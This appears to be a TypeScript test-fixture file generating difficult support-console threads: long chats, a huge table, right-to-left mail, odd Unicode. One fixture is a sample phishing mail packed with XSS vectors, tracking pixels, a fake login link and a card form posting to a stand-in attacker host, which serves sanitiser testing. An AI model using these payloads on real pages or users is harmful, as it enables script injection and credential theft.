/** Conversations that a console must survive: very long, very large, right to left, hostile. */
import { samplePicture } from './picture';
import { turn, type SampleFile, type SampleThread, type SampleTurn } from './sample-thread';

const LONG_THREAD_TURNS = 300;
const LARGE_MAIL_BYTES = 2 * 1024 * 1024;

const base = {
  topic: 'faults',
  phone: null,
  handle: null,
  social: null,
  status: 'open',
  priority: 'normal',
  agent: 1,
  tags: [],
} as const;

const html = (content: string, files: readonly SampleFile[] = []): SampleTurn => ({
  ...turn('customer', 0, ''),
  body: { type: 'html', content },
  files,
});

export function awkwardThreads(): SampleThread[] {
  return [
    longThread(),
    largeMail(),
    rightToLeftMail(),
    rightToLeftChat(),
    emptySubject(),
    longSubject(),
    hostileMail(),
    inlineImage(),
    automaticAnswer(),
    filesOnly(),
    oddCharacters(),
  ];
}

const TRIES = [
  'Tried in a private window, the same.',
  'Now it asks me to sign in again.',
  'The circle turns and turns.',
  'It worked once and then never again.',
  'My son tried on his phone, there it works.',
  'I see the number 0x80 in the corner, does that tell you something?',
  'The picture is there, the sound comes two seconds later.',
  'Restarted the router, it was not the router.',
  'On the train it works, at home it does not.',
  'Wait, somebody is at the door.',
  'Back again. Where were we?',
  'I have the old version 7.1.8, should I update?',
  'Updated. Now the button is green but does nothing.',
];
const STEPS = [
  'Thank you. Please sign out once and in again.',
  'And when you turn the other extension off?',
  'Could you tell me the time on the page, bottom left?',
  'I have asked a developer to look with us.',
  'Take your time, I stay here.',
  'Which of the two buttons do you mean, the upper or the lower one?',
  'That helps, it rules out the network.',
  'Please try the link that I have just sent.',
  'I can see your request arriving now.',
  'Let us do the same without the proxy of your company.',
  'One step back: which language is the page in?',
];

function longThread(): SampleThread {
  const turns = Array.from({ length: LONG_THREAD_TURNS }, (_, at): SampleTurn => {
    if (at % 37 === 36)
      return turn('note', 1, `Step ${at + 1}: still the same picture, going on with the list.`);
    const lines = at % 2 === 0 ? TRIES : STEPS;
    const words = lines[Math.floor(at / 2) % lines.length]!;
    return turn(at % 2 === 0 ? 'customer' : 'agent', at === 0 ? 0 : 1 + (at % 4), `${words} (${at + 1})`);
  });
  return {
    ...base,
    channel: 'chat',
    who: 'Sample Customer Patience',
    subject: 'Live stream stutters, a very long search',
    tags: ['stream', 'long'],
    ago: 4,
    turns,
  };
}

/** An exported history pasted into a mail, 2 MB of table. */
function largeMail(): SampleThread {
  const rows: string[] = [];
  let size = 0;
  for (let at = 1; size < LARGE_MAIL_BYTES; at += 1) {
    const row = `<tr><td>${at}</td><td>2026-0${1 + (at % 9)}-${10 + (at % 18)}</td><td>Sample event ${at * 7}, round ${at % 38}</td><td style="text-align:right">${((at * 37) % 5000) / 100} EUR</td></tr>\n`;
    rows.push(row);
    size += row.length;
  }
  return {
    ...base,
    channel: 'email',
    who: 'Sample Customer Bookkeeper',
    subject: 'My whole history, please check the sums',
    status: 'new',
    agent: null,
    tags: ['large'],
    ago: 150,
    turns: [
      html(
        `<p>Hello,</p><p>below is everything since January. My sum differs from yours by 3.20 EUR.</p><table border="1">${rows.join('')}</table><p>Regards</p>`,
      ),
    ],
  };
}

function rightToLeftMail(): SampleThread {
  return {
    ...base,
    channel: 'email',
    topic: 'withdrawals',
    who: 'عميل تجريبي سالم',
    subject: 'تأخر السحب منذ ثلاثة أيام',
    priority: 'high',
    tags: ['rtl'],
    ago: 44,
    turns: [
      turn(
        'customer',
        0,
        'السلام عليكم،\n\nطلبت سحب 250 دولارًا يوم الأحد (رقم الطلب WD-20931) ولم يصل المبلغ إلى حسابي حتى الآن. كتب لي البنك: "no incoming transfer found".\n\nأرجو المساعدة،\nسالم',
      ),
      turn(
        'agent',
        35,
        'Hello Salem, thank you for writing. The transfer left us on Monday; I am asking our bank for the trace.',
      ),
      turn('customer', 50, 'شكرًا لك. هل يمكنك الرد بالعربية؟ رقم هاتفي ‎+971 50 555 0101‎.'),
    ],
  };
}

function rightToLeftChat(): SampleThread {
  return {
    ...base,
    channel: 'chat',
    topic: 'logins',
    who: 'לקוחה לדוגמה נועה',
    subject: null,
    status: 'new',
    agent: null,
    tags: ['rtl'],
    ago: 3,
    turns: [
      turn('customer', 0, 'שלום, אני לא מצליחה להתחבר מהטלפון'),
      turn('customer', 1, 'מופיעה ההודעה "Error 403 (access denied)" ואז הדף נסגר'),
    ],
  };
}

function emptySubject(): SampleThread {
  return {
    ...base,
    channel: 'email',
    topic: 'payments',
    who: 'Sample Customer Hasty',
    subject: '',
    status: 'new',
    agent: null,
    ago: 11,
    turns: [turn('customer', 0, 'where is my money')],
  };
}

function longSubject(): SampleThread {
  const subject =
    'I am writing the whole matter into the subject because last time nobody read further than that: '.concat(
      'on Monday I deposited, on Tuesday I played, on Wednesday I won, on Thursday I asked, on Friday I was told to wait, '.repeat(
        8,
      ),
      'and now it is Saturday',
    );
  return {
    ...base,
    channel: 'email',
    topic: 'complaints',
    who: 'Sample Customer Verbose',
    subject,
    status: 'open',
    agent: 2,
    tags: ['complaint'],
    ago: 610,
    turns: [
      turn('customer', 0, 'See above.'),
      turn('agent', 90, 'I have read all of it. One moment, please.'),
      turn('customer', 15, 'At last.'),
    ],
  };
}

/** What mail of strangers tries: scripts, trackers, redirects, false forms and false links. */
const HOSTILE_HTML = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://tracker.example/refresh">
<base href="https://tracker.example/">
<link rel="stylesheet" href="https://tracker.example/style.css">
<style>@import url(https://tracker.example/import.css); body{background:url(https://tracker.example/bg.png)} .x:before{content:url(https://tracker.example/content.png)}</style>
<script>parent.postMessage('stolen','*');document.title='owned'</script>
</head><body background="https://tracker.example/body.gif" onload="document.title='owned'">
<div style="display:none;max-height:0">Your parcel is waiting, act now</div>
<img src="https://tracker.example/pixel.gif?who=sample" width="1" height="1" alt="">
<img src=x onerror="document.title='owned'">
<img srcset="https://tracker.example/1x.png 1x, https://tracker.example/2x.png 2x" alt="A remote picture">
<picture><source srcset="https://tracker.example/source.webp"><img src="https://tracker.example/fallback.png" alt=""></picture>
<p style="font-size:16px">Dear customer, your account will be <b>closed today</b>.</p>
<p><a href="https://login.evil.example/holdfast" style="color:#06c">https://www.your-bank.example/login</a></p>
<p><a href="javascript:document.title='owned'">Read the terms</a> or <a href="https://xn--80ak6aa92e.example/">the site</a></p>
<form action="https://login.evil.example/steal" method="post"><input name="card" placeholder="Card number"><button>Confirm</button></form>
<svg onload="document.title='owned'"><a xlink:href="javascript:document.title='owned'"><text y="20">Click</text></a></svg>
<iframe src="https://tracker.example/frame" srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<video src="https://tracker.example/video.mp4" poster="https://tracker.example/poster.png" autoplay></video>
<object data="https://tracker.example/object.swf"></object><embed src="https://tracker.example/embed">
<div style="position:fixed;inset:0;background:rgba(255,255,255,.01);z-index:99999"></div>
<table background="https://tracker.example/table.png"><tr><td style="background-image:url('https://tracker.example/cell.png')">Sample offer</td></tr></table>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
</body></html>`;

function hostileMail(): SampleThread {
  return {
    ...base,
    channel: 'email',
    topic: 'logins',
    who: 'Sample Security Team (not really)',
    subject: '⚠️ URGENT: confirm your account within 24 hours',
    status: 'new',
    agent: null,
    tags: ['phishing?'],
    ago: 66,
    turns: [
      html(HOSTILE_HTML, [
        {
          name: 'invoice.html',
          mediaType: 'text/html',
          contentId: null,
          bytes: new TextEncoder().encode('<script>document.title="owned"</script>Sample invoice'),
        },
        {
          name: 'logo.svg',
          mediaType: 'image/svg+xml',
          contentId: null,
          bytes: new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        },
      ]),
    ],
  };
}

function inlineImage(): SampleThread {
  return {
    ...base,
    channel: 'email',
    who: 'Sample Customer Linus',
    subject: 'Chart looks wrong (picture inside)',
    status: 'open',
    agent: 3,
    tags: ['chart'],
    ago: 82,
    turns: [
      html(
        '<p>Hi,</p><p>this is what I see on the statistics page:</p><p><img src="cid:chart@sample" alt="A chart" width="360"></p><p>The colours run from left to right instead of from top to bottom. The full picture is attached.</p><p>Linus</p>',
        [
          {
            name: 'chart.png',
            mediaType: 'image/png',
            contentId: 'chart@sample',
            bytes: samplePicture(360, 180, 2),
          },
          {
            name: 'full-screen.png',
            mediaType: 'image/png',
            contentId: null,
            bytes: samplePicture(960, 540, 0),
          },
        ],
      ),
      turn(
        'agent',
        25,
        'Hi Linus, the picture says it all, thank you. I pass it on to the people who draw the charts.',
      ),
      turn('customer', 18, 'Great. Today it is green, by the way.'),
    ],
  };
}

function automaticAnswer(): SampleThread {
  return {
    ...base,
    channel: 'email',
    topic: 'payments',
    who: 'Sample Customer Away',
    subject: 'Receipt for October',
    status: 'pending',
    agent: 4,
    tags: ['auto-reply'],
    ago: 240,
    turns: [
      turn('customer', 0, 'Hello, I need a receipt for October in the name of my company.'),
      turn('agent', 120, 'Hello, with pleasure. What is the exact name and address of the company?'),
      {
        ...turn('customer', 1, 'I am out of the office until Monday and will answer then.\n\nSample Away'),
        automatic: true,
      },
    ],
  };
}

function filesOnly(): SampleThread {
  return {
    ...base,
    channel: 'email',
    topic: 'withdrawals',
    who: 'Sample Customer Wordless',
    subject: 'documents',
    status: 'new',
    agent: null,
    tags: ['documents'],
    ago: 190,
    turns: [
      {
        ...turn('customer', 0, ''),
        files: [
          { name: 'front.png', mediaType: 'image/png', contentId: null, bytes: samplePicture(640, 400, 1) },
          {
            name: 'Паспорт, страница 2 (копия).png',
            mediaType: 'image/png',
            contentId: null,
            bytes: samplePicture(640, 400, 0),
          },
        ],
      },
    ],
  };
}

function oddCharacters(): SampleThread {
  return {
    ...base,
    channel: 'social',
    topic: 'complaints',
    who: '𝓢𝓪𝓶𝓹𝓵𝓮 ✨Fancy✨ 🦄🏳️‍🌈',
    handle: 'threads:fancy_sample',
    social: { network: 'threads', visibility: 'public' },
    subject: null,
    status: 'new',
    agent: null,
    tags: ['public'],
    ago: 20,
    turns: [
      turn(
        'customer',
        0,
        `👩‍👩‍👧‍👦👍🏽 w̷h̷y̷ is everything so s̶l̶o̶w̶?? \u202Etxet desrever\u202C ${'a'.repeat(600)} 🇧🇾🇻🇳 zero\u200Bwidth`,
      ),
    ],
  };
}
